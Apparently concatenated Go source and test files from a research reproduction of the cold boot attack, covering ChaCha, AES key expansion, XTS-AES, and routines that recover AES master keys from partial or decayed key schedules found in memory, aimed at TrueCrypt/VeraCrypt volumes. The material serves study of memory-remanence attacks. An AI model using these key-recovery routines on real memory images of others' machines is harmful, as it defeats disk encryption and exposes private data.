var sigma = [4]uint32{0x61707865, 0x3320646e, 0x79622d32, 0x6b206574}

// Sigma returns the "expand 32-byte k" state constants (words 0–3 of every
// ChaCha state). The in-memory state scanner in internal/format/chacha20
// keys its detection on these words.
func Sigma() [4]uint32 { return sigma }

// quarterRound is the ChaCha quarter round. The hardware model in
// internal/engine counts this as two pipeline stages (two add-xor-rotate
// halves), following the paper's synthesis.
func quarterRound(a, b, c, d uint32) (uint32, uint32, uint32, uint32) {
	a += b
	d ^= a
	d = d<<16 | d>>16
	c += d
	b ^= c
	b = b<<12 | b>>20
	a += b
	d ^= a
	d = d<<8 | d>>24
	c += d
	b ^= c
	b = b<<7 | b>>25
	return a, b, c, d
}

// Core runs the ChaCha core on the given initial state with the given number
// of rounds, writing the 64-byte output block. rounds must be even and >= 2.
func Core(state *[16]uint32, rounds int, out *[BlockSize]byte) {
	if rounds < 2 || rounds%2 != 0 {
		panic(fmt.Sprintf("chacha: invalid round count %d", rounds))
	}
	x := *state
	for i := 0; i < rounds/2; i++ {
		// Column round.
		x[0], x[4], x[8], x[12] = quarterRound(x[0], x[4], x[8], x[12])
		x[1], x[5], x[9], x[13] = quarterRound(x[1], x[5], x[9], x[13])
		x[2], x[6], x[10], x[14] = quarterRound(x[2], x[6], x[10], x[14])
		x[3], x[7], x[11], x[15] = quarterRound(x[3], x[7], x[11], x[15])
		// Diagonal round.
		x[0], x[5], x[10], x[15] = quarterRound(x[0], x[5], x[10], x[15])
		x[1], x[6], x[11], x[12] = quarterRound(x[1], x[6], x[11], x[12])
		x[2], x[7], x[8], x[13] = quarterRound(x[2], x[7], x[8], x[13])
		x[3], x[4], x[9], x[14] = quarterRound(x[3], x[4], x[9], x[14])
	}
	for i := range x {
		binary.LittleEndian.PutUint32(out[4*i:], x[i]+state[i])
	}
}

// Cipher is a ChaCha keystream generator in the original DJB layout:
// 256-bit key, 64-bit block counter (state words 12-13), 64-bit nonce
// (state words 14-15).
type Cipher struct {
	rounds int
	state  [16]uint32 // counter words filled per call
}

// New creates a ChaCha cipher with the given round count (8, 12, or 20),
// 32-byte key, and 64-bit nonce.
func New(rounds int, key []byte, nonce uint64) (*Cipher, error) {
	switch rounds {
	case Rounds8, Rounds12, Rounds20:
	default:
		return nil, fmt.Errorf("chacha: unsupported round count %d", rounds)
	}
	if len(key) != 32 {
		return nil, fmt.Errorf("chacha: key must be 32 bytes, got %d", len(key))
	}
	c := &Cipher{rounds: rounds}
	copy(c.state[0:4], sigma[:])
	for i := 0; i < 8; i++ {
		c.state[4+i] = binary.LittleEndian.Uint32(key[4*i:])
	}
	c.state[14] = uint32(nonce)
	c.state[15] = uint32(nonce >> 32)
	return c, nil
}

// Rounds returns the configured round count.
func (c *Cipher) Rounds() int { return c.rounds }

// Block writes the 64-byte keystream block for the given counter value.
// Each memory line maps to one counter (its physical address / 64), so
// keystream generation is independent of the data — the property that lets
// it overlap with the DRAM column access.
func (c *Cipher) Block(counter uint64, out *[BlockSize]byte) {
	st := c.state
	st[12] = uint32(counter)
	st[13] = uint32(counter >> 32)
	Core(&st, c.rounds, out)
}

// Keystream fills dst (length multiple of 64) with keystream blocks
// starting at counter.
func (c *Cipher) Keystream(dst []byte, counter uint64) {
	if len(dst)%BlockSize != 0 {
		panic("chacha: keystream length must be a multiple of 64")
	}
	var blk [BlockSize]byte
	for off := 0; off < len(dst); off += BlockSize {
		c.Block(counter, &blk)
		copy(dst[off:], blk[:])
		counter++
	}
}

// XORKeyStream encrypts or decrypts src into dst with keystream starting at
// counter. dst and src may alias; length must be a multiple of 64.
//
// Each 64-byte keystream block is generated into a stack buffer and folded
// in with the word-level kernel — no allocation, eight uint64 lanes per
// block.
func (c *Cipher) XORKeyStream(dst, src []byte, counter uint64) {
	if len(dst) != len(src) {
		panic("chacha: XORKeyStream length mismatch")
	}
	if len(src)%BlockSize != 0 {
		panic("chacha: XORKeyStream length must be a multiple of 64")
	}
	var blk [BlockSize]byte
	for off := 0; off < len(src); off += BlockSize {
		c.Block(counter, &blk)
		bitutil.XORBlock64(dst[off:], src[off:], blk[:])
		counter++
	}
}

// RFCState builds an initial state in the RFC 8439 layout (32-bit counter in
// word 12, 96-bit nonce in words 13-15). Provided so the implementation can
// be pinned to the published RFC test vectors in the tests.
func RFCState(key []byte, counter uint32, nonce []byte) [16]uint32 {
	if len(key) != 32 || len(nonce) != 12 {
		panic("chacha: RFCState wants 32-byte key and 12-byte nonce")
	}
	var st [16]uint32
	copy(st[0:4], sigma[:])
	for i := 0; i < 8; i++ {
		st[4+i] = binary.LittleEndian.Uint32(key[4*i:])
	}
	st[12] = counter
	for i := 0; i < 3; i++ {
		st[13+i] = binary.LittleEndian.Uint32(nonce[4*i:])
	}
	return st
}

// QuarterRound exposes the quarter round for tests and for the engine
// pipeline model's stage accounting.
func QuarterRound(a, b, c, d uint32) (uint32, uint32, uint32, uint32) {
	return quarterRound(a, b, c, d)
}
