package aes

import (
	"bytes"
	stdaes "crypto/aes"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

func unhex(t *testing.T, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(s)
	if err != nil {
		t.Fatalf("bad hex %q: %v", s, err)
	}
	return b
}

func TestSBoxKnownEntries(t *testing.T) {
	// FIPS-197 Figure 7 spot checks.
	cases := map[byte]byte{
		0x00: 0x63, 0x01: 0x7c, 0x53: 0xed, 0xff: 0x16, 0x9a: 0xb8,
	}
	for in, want := range cases {
		if got := SubByte(in); got != want {
			t.Errorf("sbox[%#02x] = %#02x, want %#02x", in, got, want)
		}
	}
}

func TestInvSBoxInvertsSBox(t *testing.T) {
	for i := 0; i < 256; i++ {
		if got := InvSubByte(SubByte(byte(i))); got != byte(i) {
			t.Fatalf("invSbox[sbox[%d]] = %d", i, got)
		}
	}
}

func TestGmulKnownProducts(t *testing.T) {
	// FIPS-197 §4.2 examples: {57}*{83} = {c1}, {57}*{13} = {fe}.
	if got := gmul(0x57, 0x83); got != 0xC1 {
		t.Errorf("gmul(57,83) = %#02x, want c1", got)
	}
	if got := gmul(0x57, 0x13); got != 0xFE {
		t.Errorf("gmul(57,13) = %#02x, want fe", got)
	}
}

func TestVariantParameters(t *testing.T) {
	cases := []struct {
		v                    Variant
		nk, nr, keyB, schedB int
	}{
		{AES128, 4, 10, 16, 176},
		{AES192, 6, 12, 24, 208},
		{AES256, 8, 14, 32, 240},
	}
	for _, c := range cases {
		if c.v.Nk() != c.nk || c.v.Rounds() != c.nr || c.v.KeyBytes() != c.keyB || c.v.ScheduleBytes() != c.schedB {
			t.Errorf("%v parameters wrong: Nk=%d Nr=%d KeyBytes=%d ScheduleBytes=%d",
				c.v, c.v.Nk(), c.v.Rounds(), c.v.KeyBytes(), c.v.ScheduleBytes())
		}
	}
}

func TestExpandKeyFIPS128(t *testing.T) {
	// FIPS-197 Appendix A.1.
	key := unhex(t, "2b7e151628aed2a6abf7158809cf4f3c")
	w := ExpandKey(key)
	if len(w) != 44 {
		t.Fatalf("schedule length = %d, want 44", len(w))
	}
	checks := map[int]uint32{
		4: 0xa0fafe17, 10: 0x5935807a, 23: 0x11f915bc, 43: 0xb6630ca6,
	}
	for i, want := range checks {
		if w[i] != want {
			t.Errorf("w[%d] = %08x, want %08x", i, w[i], want)
		}
	}
}

func TestExpandKeyFIPS192(t *testing.T) {
	// FIPS-197 Appendix A.2.
	key := unhex(t, "8e73b0f7da0e6452c810f32b809079e562f8ead2522c6b7b")
	w := ExpandKey(key)
	if len(w) != 52 {
		t.Fatalf("schedule length = %d, want 52", len(w))
	}
	checks := map[int]uint32{
		6: 0xfe0c91f7, 12: 0x4db7b4bd, 51: 0x01002202,
	}
	for i, want := range checks {
		if w[i] != want {
			t.Errorf("w[%d] = %08x, want %08x", i, w[i], want)
		}
	}
}

func TestExpandKeyFIPS256(t *testing.T) {
	// FIPS-197 Appendix A.3.
	key := unhex(t, "603deb1015ca71be2b73aef0857d77811f352c073b6108d72d9810a30914dff4")
	w := ExpandKey(key)
	if len(w) != 60 {
		t.Fatalf("schedule length = %d, want 60", len(w))
	}
	checks := map[int]uint32{
		8: 0x9ba35411, 12: 0xa8b09c1a, 29: 0xbebd198e, 59: 0x706c631e,
	}
	for i, want := range checks {
		if w[i] != want {
			t.Errorf("w[%d] = %08x, want %08x", i, w[i], want)
		}
	}
}

func TestEncryptFIPSVectors(t *testing.T) {
	pt := unhex(t, "00112233445566778899aabbccddeeff")
	cases := []struct{ key, ct string }{
		{"000102030405060708090a0b0c0d0e0f", "69c4e0d86a7b0430d8cdb78070b4c55a"},
		{"000102030405060708090a0b0c0d0e0f1011121314151617", "dda97ca4864cdfe06eaf70a0ec0d7191"},
		{"000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f", "8ea2b7ca516745bfeafc49904b496089"},
	}
	for _, c := range cases {
		ciph, err := NewCipher(unhex(t, c.key))
		if err != nil {
			t.Fatal(err)
		}
		got := make([]byte, 16)
		ciph.Encrypt(got, pt)
		if hex.EncodeToString(got) != c.ct {
			t.Errorf("AES-%d ct = %x, want %s", len(c.key)*4, got, c.ct)
		}
		back := make([]byte, 16)
		ciph.Decrypt(back, got)
		if !bytes.Equal(back, pt) {
			t.Errorf("AES-%d decrypt round-trip failed", len(c.key)*4)
		}
	}
}

func TestNewCipherRejectsBadKeyLength(t *testing.T) {
	if _, err := NewCipher(make([]byte, 15)); err == nil {
		t.Error("expected error for 15-byte key")
	}
	if _, err := NewCipher(nil); err == nil {
		t.Error("expected error for nil key")
	}
}

func TestEncryptMatchesStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for _, klen := range []int{16, 24, 32} {
		for trial := 0; trial < 50; trial++ {
			key := make([]byte, klen)
			rng.Read(key)
			pt := make([]byte, 16)
			rng.Read(pt)
			ours, err := NewCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			ref, err := stdaes.NewCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			a := make([]byte, 16)
			b := make([]byte, 16)
			ours.Encrypt(a, pt)
			ref.Encrypt(b, pt)
			if !bytes.Equal(a, b) {
				t.Fatalf("AES-%d encrypt mismatch vs stdlib (trial %d)", klen*8, trial)
			}
			ours.Decrypt(a, a)
			if !bytes.Equal(a, pt) {
				t.Fatalf("AES-%d decrypt mismatch (trial %d)", klen*8, trial)
			}
		}
	}
}

func TestEncryptInPlace(t *testing.T) {
	key := unhex(t, "000102030405060708090a0b0c0d0e0f")
	ciph, _ := NewCipher(key)
	buf := unhex(t, "00112233445566778899aabbccddeeff")
	ciph.Encrypt(buf, buf)
	if hex.EncodeToString(buf) != "69c4e0d86a7b0430d8cdb78070b4c55a" {
		t.Errorf("in-place encrypt wrong: %x", buf)
	}
}

func TestWordsBytesRoundTrip(t *testing.T) {
	f := func(b [32]byte) bool {
		return bytes.Equal(WordsToBytes(BytesToWords(b[:])), b[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestBytesToWordsPanicsOnOddLength(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	BytesToWords(make([]byte, 5))
}
