package aes

import (
	"bytes"
	"math/rand"
	"testing"
)

// The Into variants are the allocation-free backbone of the attack's
// per-candidate hot path (PR 6): they must be byte-identical to the
// allocating originals and must genuinely not allocate when given
// sufficiently sized destination buffers.

func TestExpandKeyIntoMatchesExpandKey(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for _, v := range []Variant{AES128, AES192, AES256} {
		for trial := 0; trial < 50; trial++ {
			key := make([]byte, v.KeyBytes())
			rng.Read(key)
			want := ExpandKey(key)
			var buf [MaxScheduleWords]uint32
			got := ExpandKeyInto(buf[:0], key)
			if len(got) != len(want) {
				t.Fatalf("%v: ExpandKeyInto length %d, want %d", v, len(got), len(want))
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("%v trial %d: word %d = %08x, want %08x", v, trial, i, got[i], want[i])
				}
			}
			var bbuf [MaxScheduleBytes]byte
			gotB := ExpandKeyBytesInto(bbuf[:0], key)
			if !bytes.Equal(gotB, ExpandKeyBytes(key)) {
				t.Fatalf("%v trial %d: ExpandKeyBytesInto mismatch", v, trial)
			}
		}
	}
}

func TestExpandKeyIntoAppends(t *testing.T) {
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(i)
	}
	prefix := []byte{0xAA, 0xBB}
	out := ExpandKeyBytesInto(append([]byte{}, prefix...), key)
	if !bytes.Equal(out[:2], prefix) {
		t.Fatalf("ExpandKeyBytesInto clobbered the existing prefix: % x", out[:2])
	}
	if !bytes.Equal(out[2:], ExpandKeyBytes(key)) {
		t.Fatalf("ExpandKeyBytesInto appended wrong schedule")
	}
}

func TestRecoverMasterKeyIntoMatchesRecoverMasterKey(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for _, v := range []Variant{AES128, AES192, AES256} {
		nk := v.Nk()
		for trial := 0; trial < 20; trial++ {
			key := make([]byte, v.KeyBytes())
			rng.Read(key)
			sched := ExpandKey(key)
			for start := 0; start+nk <= len(sched); start++ {
				window := sched[start : start+nk]
				want := RecoverMasterKey(window, start, v)
				var buf [32]byte
				got := RecoverMasterKeyInto(buf[:0], window, start, v)
				if !bytes.Equal(got, want) {
					t.Fatalf("%v start %d: RecoverMasterKeyInto = % x, want % x", v, start, got, want)
				}
				if !bytes.Equal(want, key) {
					t.Fatalf("%v start %d: recovered master % x != key % x", v, start, want, key)
				}
			}
		}
	}
}

func TestBytesWordsIntoRoundtrip(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	b := make([]byte, 240)
	rng.Read(b)
	var wbuf [MaxScheduleWords]uint32
	w := BytesToWordsInto(wbuf[:0], b)
	if len(w) != 60 {
		t.Fatalf("BytesToWordsInto length %d, want 60", len(w))
	}
	var bbuf [MaxScheduleBytes]byte
	back := WordsToBytesInto(bbuf[:0], w)
	if !bytes.Equal(back, b) {
		t.Fatal("BytesToWordsInto/WordsToBytesInto roundtrip mismatch")
	}
	wantW := BytesToWords(b)
	for i := range wantW {
		if w[i] != wantW[i] {
			t.Fatalf("word %d = %08x, want %08x", i, w[i], wantW[i])
		}
	}
}

func TestIntoVariantsDoNotAllocate(t *testing.T) {
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(3 * i)
	}
	sched := ExpandKey(key)
	var wbuf [MaxScheduleWords]uint32
	var bbuf [MaxScheduleBytes]byte
	var mbuf [32]byte
	checks := []struct {
		name string
		fn   func()
	}{
		{"ExpandKeyInto", func() { ExpandKeyInto(wbuf[:0], key) }},
		{"ExpandKeyBytesInto", func() { ExpandKeyBytesInto(bbuf[:0], key) }},
		{"BytesToWordsInto", func() { BytesToWordsInto(wbuf[:0], bbuf[:240]) }},
		{"WordsToBytesInto", func() { WordsToBytesInto(bbuf[:0], sched) }},
		{"RecoverMasterKeyInto", func() { RecoverMasterKeyInto(mbuf[:0], sched[8:16], 8, AES256) }},
	}
	for _, c := range checks {
		if n := testing.AllocsPerRun(100, c.fn); n != 0 {
			t.Errorf("%s allocates %.1f times per call; the Into contract is zero", c.name, n)
		}
	}
}
