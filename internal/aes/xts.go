package aes

import (
	"encoding/binary"
	"fmt"

	"coldboot/internal/bitutil"
)

// XTS implements the XEX-based tweaked-codebook mode with ciphertext
// stealing omitted (sector sizes are multiples of 16 bytes, as in disk
// encryption), i.e. XTS-AES per IEEE P1619 restricted to full blocks.
// TrueCrypt and VeraCrypt encrypt volume data with XTS-AES-256, which is why
// mounting a volume leaves TWO expanded key schedules adjacent in memory:
// the data key's and the tweak key's. The cold boot attack recovers both.
type XTS struct {
	data  *Cipher // K1: encrypts the data
	tweak *Cipher // K2: encrypts the tweak (sector number)
}

// NewXTS builds an XTS cipher from a double-length key: the first half is
// the data key K1, the second half the tweak key K2. For XTS-AES-256 the
// key is 64 bytes.
func NewXTS(key []byte) (*XTS, error) {
	if len(key) != 32 && len(key) != 64 {
		return nil, fmt.Errorf("aes: XTS key must be 32 or 64 bytes, got %d", len(key))
	}
	half := len(key) / 2
	data, err := NewCipher(key[:half])
	if err != nil {
		return nil, err
	}
	tweak, err := NewCipher(key[half:])
	if err != nil {
		return nil, err
	}
	return &XTS{data: data, tweak: tweak}, nil
}

// DataCipher returns the K1 cipher (exposed so the volume layer can place
// its schedule in simulated memory, as real disk-encryption drivers do).
func (x *XTS) DataCipher() *Cipher { return x.data }

// TweakCipher returns the K2 cipher.
func (x *XTS) TweakCipher() *Cipher { return x.tweak }

// mulAlpha multiplies the 128-bit tweak by the primitive element alpha
// (x) in GF(2^128) with the polynomial x^128 + x^7 + x^2 + x + 1,
// little-endian byte order per IEEE P1619.
func mulAlpha(t *[BlockSize]byte) {
	var carry byte
	for i := 0; i < BlockSize; i++ {
		next := t[i] >> 7
		t[i] = t[i]<<1 | carry
		carry = next
	}
	if carry != 0 {
		t[0] ^= 0x87
	}
}

func (x *XTS) tweakFor(sector uint64) [BlockSize]byte {
	var t [BlockSize]byte
	binary.LittleEndian.PutUint64(t[:8], sector)
	x.tweak.Encrypt(t[:], t[:])
	return t
}

// EncryptSector encrypts a full sector (len multiple of 16) with the given
// sector number as tweak. dst and src may alias.
func (x *XTS) EncryptSector(dst, src []byte, sector uint64) {
	if len(dst) != len(src) || len(src)%BlockSize != 0 {
		panic("aes: XTS sector must be a whole number of blocks")
	}
	t := x.tweakFor(sector)
	var buf [BlockSize]byte
	for off := 0; off < len(src); off += BlockSize {
		bitutil.XORBlock16(buf[:], src[off:], t[:])
		x.data.Encrypt(buf[:], buf[:])
		bitutil.XORBlock16(dst[off:], buf[:], t[:])
		mulAlpha(&t)
	}
}

// DecryptSector decrypts a full sector encrypted by EncryptSector.
func (x *XTS) DecryptSector(dst, src []byte, sector uint64) {
	if len(dst) != len(src) || len(src)%BlockSize != 0 {
		panic("aes: XTS sector must be a whole number of blocks")
	}
	t := x.tweakFor(sector)
	var buf [BlockSize]byte
	for off := 0; off < len(src); off += BlockSize {
		bitutil.XORBlock16(buf[:], src[off:], t[:])
		x.data.Decrypt(buf[:], buf[:])
		bitutil.XORBlock16(dst[off:], buf[:], t[:])
		mulAlpha(&t)
	}
}

// EncryptUnit encrypts a data unit of arbitrary length >= 16 bytes with
// ciphertext stealing (IEEE P1619 §5.3.2): lengths that are not a multiple
// of the block size borrow the tail of the penultimate block's ciphertext.
// dst and src may alias.
func (x *XTS) EncryptUnit(dst, src []byte, sector uint64) {
	n := len(src)
	if len(dst) != n || n < BlockSize {
		panic("aes: XTS unit must be at least one block")
	}
	rem := n % BlockSize
	if rem == 0 {
		x.EncryptSector(dst, src, sector)
		return
	}
	full := n - rem - BlockSize // bytes handled as ordinary blocks
	t := x.tweakFor(sector)
	var buf [BlockSize]byte
	for off := 0; off < full; off += BlockSize {
		bitutil.XORBlock16(buf[:], src[off:], t[:])
		x.data.Encrypt(buf[:], buf[:])
		bitutil.XORBlock16(dst[off:], buf[:], t[:])
		mulAlpha(&t)
	}
	// Penultimate block: encrypt normally to get CC.
	var cc [BlockSize]byte
	bitutil.XORBlock16(cc[:], src[full:], t[:])
	x.data.Encrypt(cc[:], cc[:])
	bitutil.XORBlock16(cc[:], cc[:], t[:])
	tNext := t
	mulAlpha(&tNext)
	// Final partial block steals CC's tail.
	var last [BlockSize]byte
	copy(last[:], src[full+BlockSize:])
	copy(last[rem:], cc[rem:])
	bitutil.XORBlock16(last[:], last[:], tNext[:])
	x.data.Encrypt(last[:], last[:])
	bitutil.XORBlock16(last[:], last[:], tNext[:])
	// C_{m-1} = Enc(P_m || tail(CC)); C_m = head(CC).
	copy(dst[full:], last[:])
	copy(dst[full+BlockSize:], cc[:rem])
}

// DecryptUnit inverts EncryptUnit.
func (x *XTS) DecryptUnit(dst, src []byte, sector uint64) {
	n := len(src)
	if len(dst) != n || n < BlockSize {
		panic("aes: XTS unit must be at least one block")
	}
	rem := n % BlockSize
	if rem == 0 {
		x.DecryptSector(dst, src, sector)
		return
	}
	full := n - rem - BlockSize
	t := x.tweakFor(sector)
	var buf [BlockSize]byte
	for off := 0; off < full; off += BlockSize {
		bitutil.XORBlock16(buf[:], src[off:], t[:])
		x.data.Decrypt(buf[:], buf[:])
		bitutil.XORBlock16(dst[off:], buf[:], t[:])
		mulAlpha(&t)
	}
	tNext := t
	mulAlpha(&tNext)
	// Decrypt C_{m-1} under the NEXT tweak to recover P_m || tail(CC).
	var pp [BlockSize]byte
	bitutil.XORBlock16(pp[:], src[full:], tNext[:])
	x.data.Decrypt(pp[:], pp[:])
	bitutil.XORBlock16(pp[:], pp[:], tNext[:])
	// Rebuild CC = C_m || tail(PP) and decrypt under the current tweak.
	var cc [BlockSize]byte
	copy(cc[:], src[full+BlockSize:])
	copy(cc[rem:], pp[rem:])
	bitutil.XORBlock16(cc[:], cc[:], t[:])
	x.data.Decrypt(cc[:], cc[:])
	bitutil.XORBlock16(cc[:], cc[:], t[:])
	copy(dst[full:], cc[:])
	copy(dst[full+BlockSize:], pp[:rem])
}
