package aes

import (
	"bytes"
	"math/rand"
	"testing"
)

func randKey(rng *rand.Rand, v Variant) []byte {
	k := make([]byte, v.KeyBytes())
	rng.Read(k)
	return k
}

func TestExtendForwardReproducesSchedule(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for _, v := range []Variant{AES128, AES192, AES256} {
		for trial := 0; trial < 20; trial++ {
			w := ExpandKey(randKey(rng, v))
			nk := v.Nk()
			// From every possible window position, extending forward must
			// reproduce the rest of the schedule exactly.
			for start := 0; start+nk <= len(w); start++ {
				n := len(w) - (start + nk)
				if n == 0 {
					continue
				}
				got := ExtendForward(w[start:start+nk], start, v, n)
				if !equalWords(got, w[start+nk:]) {
					t.Fatalf("%v: forward extension from start %d mismatch", v, start)
				}
			}
		}
	}
}

func TestExtendBackwardReproducesSchedule(t *testing.T) {
	rng := rand.New(rand.NewSource(12))
	for _, v := range []Variant{AES128, AES192, AES256} {
		for trial := 0; trial < 20; trial++ {
			w := ExpandKey(randKey(rng, v))
			nk := v.Nk()
			for start := 1; start+nk <= len(w); start++ {
				got := ExtendBackward(w[start:start+nk], start, v, start)
				if !equalWords(got, w[:start]) {
					t.Fatalf("%v: backward extension from start %d mismatch", v, start)
				}
			}
		}
	}
}

func TestExtendForwardBackwardInverse(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	for _, v := range []Variant{AES128, AES256} {
		w := ExpandKey(randKey(rng, v))
		nk := v.Nk()
		start := 8
		window := w[start : start+nk]
		fwd := ExtendForward(window, start, v, 4)
		// The forward words together with window can be extended backward to
		// recover the window itself.
		combined := append(append([]uint32{}, window...), fwd...)
		back := ExtendBackward(combined[len(combined)-nk:], start+len(combined)-nk, v, len(combined)-nk)
		if !equalWords(back, combined[:len(combined)-nk]) {
			t.Fatalf("%v: backward does not invert forward", v)
		}
	}
}

func TestRecoverMasterKeyFromEveryPosition(t *testing.T) {
	rng := rand.New(rand.NewSource(14))
	for _, v := range []Variant{AES128, AES192, AES256} {
		key := randKey(rng, v)
		w := ExpandKey(key)
		nk := v.Nk()
		for start := 0; start+nk <= len(w); start++ {
			got := RecoverMasterKey(w[start:start+nk], start, v)
			if !bytes.Equal(got, key) {
				t.Fatalf("%v: master key recovery from word %d failed:\n got %x\nwant %x",
					v, start, got, key)
			}
		}
	}
}

func TestRecoverMasterKeyFromTail(t *testing.T) {
	// The most decay-relevant case: only the LAST round keys survive.
	rng := rand.New(rand.NewSource(15))
	key := randKey(rng, AES256)
	w := ExpandKey(key)
	tail := w[len(w)-8:]
	got := RecoverMasterKey(tail, len(w)-8, AES256)
	if !bytes.Equal(got, key) {
		t.Fatalf("master key from schedule tail failed")
	}
}

func TestExtendForwardPanicsOnShortWindow(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	ExtendForward(make([]uint32, 3), 0, AES128, 1)
}

func TestExtendBackwardPanicsBeforeWordZero(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	ExtendBackward(make([]uint32, 8), 4, AES256, 8)
}

func TestScheduleFRconProgression(t *testing.T) {
	// rcon(1)=01, rcon(2)=02, ..., rcon(9)=1b, rcon(10)=36 (FIPS-197 §5.2).
	wants := []uint32{0x01000000, 0x02000000, 0x04000000, 0x08000000,
		0x10000000, 0x20000000, 0x40000000, 0x80000000, 0x1b000000, 0x36000000}
	for i, want := range wants {
		if got := rcon(i + 1); got != want {
			t.Errorf("rcon(%d) = %08x, want %08x", i+1, got, want)
		}
	}
}

func TestExpandKeyBytesLayoutMatchesMemory(t *testing.T) {
	// The byte layout must be the big-endian word serialization, which is
	// how real AES software (and the FIPS spec) lays out round keys.
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(i)
	}
	b := ExpandKeyBytes(key)
	if len(b) != 240 {
		t.Fatalf("schedule bytes = %d, want 240", len(b))
	}
	// First KeyBytes bytes of the schedule ARE the master key.
	if !bytes.Equal(b[:32], key) {
		t.Error("schedule head is not the master key")
	}
}

func equalWords(a, b []uint32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func BenchmarkExpandKey256(b *testing.B) {
	key := make([]byte, 32)
	for i := 0; i < b.N; i++ {
		ExpandKey(key)
	}
}

func BenchmarkExtendForwardOneRound(b *testing.B) {
	key := make([]byte, 32)
	w := ExpandKey(key)
	window := w[8:16]
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ExtendForward(window, 8, AES256, 4)
	}
}
