package aes

import (
	"bytes"
	"math/rand"
	"testing"
)

func TestTTableMatchesReference(t *testing.T) {
	rng := rand.New(rand.NewSource(77))
	for _, klen := range []int{16, 24, 32} {
		for trial := 0; trial < 200; trial++ {
			key := make([]byte, klen)
			rng.Read(key)
			c, err := NewCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			pt := make([]byte, 16)
			rng.Read(pt)
			fast := make([]byte, 16)
			ref := make([]byte, 16)
			c.encryptFast(fast, pt)
			c.encryptRef(ref, pt)
			if !bytes.Equal(fast, ref) {
				t.Fatalf("AES-%d encrypt fast != reference", klen*8)
			}
			dfast := make([]byte, 16)
			dref := make([]byte, 16)
			c.decryptFast(dfast, fast)
			c.decryptRef(dref, fast)
			if !bytes.Equal(dfast, dref) || !bytes.Equal(dfast, pt) {
				t.Fatalf("AES-%d decrypt fast != reference", klen*8)
			}
		}
	}
}

func TestTTableInPlace(t *testing.T) {
	c, _ := NewCipher(make([]byte, 32))
	buf := make([]byte, 16)
	for i := range buf {
		buf[i] = byte(i)
	}
	want := make([]byte, 16)
	c.encryptRef(want, buf)
	c.encryptFast(buf, buf)
	if !bytes.Equal(buf, want) {
		t.Error("in-place fast encrypt differs")
	}
	c.decryptFast(buf, buf)
	for i := range buf {
		if buf[i] != byte(i) {
			t.Fatal("in-place fast decrypt round trip failed")
		}
	}
}

// Ablation: the speedup the lookup-table design buys — the software
// analogue of the paper's "AES rounds can be implemented with lookup
// tables, making them amenable for faster designs" (and of accelerating
// the key search with AES-NI).
func BenchmarkAblationEncryptRef(b *testing.B) {
	c, _ := NewCipher(make([]byte, 16))
	buf := make([]byte, 16)
	b.SetBytes(16)
	for i := 0; i < b.N; i++ {
		c.encryptRef(buf, buf)
	}
}

func BenchmarkAblationEncryptTTable(b *testing.B) {
	c, _ := NewCipher(make([]byte, 16))
	buf := make([]byte, 16)
	b.SetBytes(16)
	for i := 0; i < b.N; i++ {
		c.encryptFast(buf, buf)
	}
}
