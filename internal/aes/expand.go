package aes

import "fmt"

// Key schedule words are stored big-endian, matching FIPS-197: schedule word
// w[i] corresponds to bytes 4i..4i+3 of the round-key table as it appears in
// memory. BytesToWords / WordsToBytes convert between the in-memory byte
// layout (what a memory dump contains) and the word form used here.

// BytesToWords converts a byte slice (length divisible by 4) into big-endian
// schedule words.
func BytesToWords(b []byte) []uint32 {
	if len(b)%4 != 0 {
		panic(fmt.Sprintf("aes: BytesToWords length %d not divisible by 4", len(b)))
	}
	w := make([]uint32, len(b)/4)
	for i := range w {
		w[i] = uint32(b[4*i])<<24 | uint32(b[4*i+1])<<16 | uint32(b[4*i+2])<<8 | uint32(b[4*i+3])
	}
	return w
}

// WordsToBytes converts schedule words back into the in-memory byte layout.
func WordsToBytes(w []uint32) []byte {
	b := make([]byte, 4*len(w))
	for i, v := range w {
		b[4*i] = byte(v >> 24)
		b[4*i+1] = byte(v >> 16)
		b[4*i+2] = byte(v >> 8)
		b[4*i+3] = byte(v)
	}
	return b
}

// scheduleF computes the transformation applied to w[i-1] before it is XORed
// with w[i-Nk], as a function of the absolute schedule word index i.
func scheduleF(prev uint32, i, nk int) uint32 {
	switch {
	case i%nk == 0:
		return subWord(rotWord(prev)) ^ rcon(i/nk)
	case nk > 6 && i%nk == 4:
		return subWord(prev)
	default:
		return prev
	}
}

// ExpandKey computes the full key schedule for key (16, 24, or 32 bytes),
// returning 4*(Nr+1) words. This is the table that disk-encryption software
// keeps in memory for the lifetime of a mounted volume — the attack target.
func ExpandKey(key []byte) []uint32 {
	var v Variant
	switch len(key) {
	case 16:
		v = AES128
	case 24:
		v = AES192
	case 32:
		v = AES256
	default:
		panic(fmt.Sprintf("aes: invalid key length %d", len(key)))
	}
	nk := v.Nk()
	w := make([]uint32, v.ScheduleWords())
	copy(w, BytesToWords(key))
	for i := nk; i < len(w); i++ {
		w[i] = w[i-nk] ^ scheduleF(w[i-1], i, nk)
	}
	return w
}

// ExpandKeyBytes is ExpandKey returning the in-memory byte layout of the
// schedule (e.g. 240 bytes for AES-256, 176 for AES-128).
func ExpandKeyBytes(key []byte) []byte {
	return WordsToBytes(ExpandKey(key))
}

// ExtendForward computes the n schedule words that follow a window of
